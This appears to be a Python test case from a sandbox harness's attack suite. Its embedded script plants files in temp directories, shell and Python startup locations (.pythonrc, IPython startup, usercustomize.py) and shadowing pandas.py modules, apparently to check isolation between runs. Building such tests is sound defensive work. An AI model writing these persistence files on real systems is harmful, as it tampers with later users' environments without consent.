"""Leaves modules, startup files and shell profiles for whoever comes next"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import os
home = os.path.expanduser("~")
hostile = "raise SystemExit('hostile')"
for path in ("/tmp/hostile-left", "/dev/shm/hostile-left", "/var/tmp/hostile-left", f"{home}/hostile-left", f"{home}/.pythonrc",
             f"{home}/.ipython/profile_default/startup/hostile-00.py", f"{home}/.local/lib/python3.11/site-packages/usercustomize.py",
             f"{home}/.config/matplotlib/matplotlibrc", "/tmp/pandas.py", "../pandas.py"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(hostile)
    except OSError:
        pass
""",
)
